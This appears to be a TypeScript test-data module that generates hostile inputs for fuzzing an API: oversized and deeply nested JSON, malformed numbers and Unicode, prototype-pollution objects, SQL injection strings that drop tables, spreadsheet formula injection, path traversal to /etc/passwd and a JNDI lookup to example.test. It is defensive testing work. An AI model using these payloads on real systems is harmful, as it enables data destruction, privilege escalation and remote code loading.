import type { Draw } from './draw.ts'

/** A hostile value as it stands in a JSON document, and in an address. */
export type Evil = { json: string; url: string }

const both = (text: string): Evil => ({ json: JSON.stringify(text), url: encodeURIComponent(text.toWellFormed()) })

/** Values that no field takes, whatever it is for. */
export const refusedValues = {
  'deep JSON': (draw: Draw): Evil => {
    const depth = draw.pick([100, 1000, 10_000, 10_000, 100_000])
    const [open, close] = draw.pick([
      ['[', ']'],
      ['{"a":', '}'],
      ['[{"items":', '}]'],
    ] as const)
    const json = draw.chance(0.2) ? open.repeat(depth) : `${open.repeat(depth)}0${close.repeat(depth)}`
    return { json, url: encodeURIComponent(open.repeat(Math.min(depth, 300))) }
  },
  'huge numbers': (draw: Draw): Evil => ({
    json: draw.pick([
      '1e400',
      '-1e400',
      '9223372036854775808',
      '-9223372036854775809',
      '1e308',
      '-1e308',
      '18446744073709551616',
      'NaN',
      'Infinity',
      '0x10',
      '1_000',
      '+1',
      '01',
      '.5',
      '9'.repeat(draw.integer(310, 100_000)),
    ]),
    url: draw.pick([
      '1e400',
      '-1e400',
      '9223372036854775808',
      '-9223372036854775809',
      'NaN',
      'Infinity',
      '-0',
      '0x7fffffff',
      '1e1000000000',
      '%D9%A3',
      '-1',
      '0',
      '1.5',
      '2147483648',
      '9007199254740993',
      '9'.repeat(draw.integer(310, 3000)),
    ]),
  }),
  'odd Unicode': (draw: Draw): Evil => ({
    json: draw.pick([
      '"\\u0000"',
      '"a\\u0000b"',
      '"\\ud800"',
      '"\\udc00\\ud800"',
      '"x\\ud83d"',
      '"\\u0001\\u0002"',
      '"\\u001b[2J"',
      '"\\u0085\\u0000"',
      `"${'\\u0000'.repeat(1000)}"`,
      '"\u202e\\u0000\u202c"',
      `"${'\ufdfa'.repeat(300)}\\u0000"`,
    ]),
    url: draw.pick([
      '%00',
      'a%00b',
      '%ED%A0%80',
      '%C0%AE%C0%AE%2F',
      '%FF',
      '%FE%FF',
      '%E2%80%AE',
      '%E2%80%8B',
      '%F4%90%80%80',
      '%u0000',
      '%',
      '%2',
      '%zz',
      '%EF%B7%BA'.repeat(30),
      '%CC%81'.repeat(60),
      '%EF%BB%BF',
      '%C2%85',
      '%1B%5B2J',
      '\u00ff',
      '\u0080',
    ]),
  }),
  'prototype pollution': (draw: Draw): Evil => ({
    json: draw.pick([
      '{"__proto__":{"role":"admin"}}',
      '{"constructor":{"prototype":{"role":"admin"}}}',
      '{"__proto__":null}',
      '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}',
      '{"a":{"__proto__":[]}}',
      '{"prototype":{"toString":1}}',
      '{"hasOwnProperty":1,"toString":null}',
      '{"then":1,"toJSON":2}',
      '[{"__proto__":{"length":9}}]',
    ]),
    url: draw.pick(['__proto__', 'constructor', 'prototype', '__proto__[role]', 'constructor.prototype', 'toString', 'hasOwnProperty']),
  }),
  'giant texts': (draw: Draw): Evil => {
    const unit = draw.pick(['x', '\ufdfa', '💥', '"', '\\', '<', ' '])
    const length = draw.pick([250_000, 300_000, 1_500_000, draw.chance(0.1) ? 20_000_000 : 400_000])
    return {
      json: JSON.stringify(`${unit.repeat(length / unit.length)}\u0000`),
      url: 'x'.repeat(draw.pick([201, 301, 513, 2000, 12_000, 60_000])),
    }
  },
  'wide JSON': (draw: Draw): Evil => {
    const count = draw.pick([10_000, 60_000, 200_000])
    const element = draw.pick(['0', '{}', '[]', 'null', '""'])
    const json = draw.chance(0.5)
      ? `[${`${element},`.repeat(count)}0]`
      : `{${Array.from({ length: count / 4 }, (_, at) => `"k${at}":${element}`).join()}}`
    return { json, url: Array.from({ length: draw.integer(100, 2000) }, (_, at) => at).join() }
  },
} satisfies Record<string, (draw: Draw) => Evil>

/** Texts that a field for texts may well take: the rest of the request has to be what is refused. */
export const possibleValues = {
  'SQL fragments': (draw: Draw): Evil =>
    both(
      draw.pick([
        "'; drop table items; --",
        "1' or '1'='1",
        "x'); select pg_sleep(10); --",
        '$1',
        '$2::text',
        "' union select key from idempotency --",
        "\\'; delete from outbox; --",
        '1; commit; drop schema public cascade',
        'a" or "a"="a',
        "%' escape '%",
        '/**/',
        "E'\\\\x00'",
        '{{7*7}}',
      ]),
    ),
  formulae: (draw: Draw): Evil =>
    both(
      draw.pick([
        '=HYPERLINK("http://example.test?"&A1,"x")',
        '+1+cmd|"/c calc"!A1',
        '-2+3',
        '@SUM(A1:A9)',
        '=IMPORTXML("http://example.test")',
      ]),
    ),
  'path tricks': (draw: Draw): Evil => {
    const text = draw.pick([
      '../../etc/passwd',
      '..\\..\\windows',
      'file:///etc/passwd',
      '//example.test/x',
      'C:\\boot.ini',
      '.',
      '..',
      '~root',
      'a/../b',
      '%00.csv',
      '/proc/self/environ',
      'con',
      '\u2215etc\u2215passwd',
      '..;/..;/',
      '${jndi:ldap://example.test/a}',
    ])
    const raw = draw.pick([text.replaceAll(/[^\x21-\x7e]/g, '%20'), encodeURIComponent(text), encodeURIComponent(encodeURIComponent(text))])
    return { json: JSON.stringify(text), url: raw.replaceAll('?', '%3F').replaceAll('#', '%23') }
  },
} satisfies Record<string, (draw: Draw) => Evil>
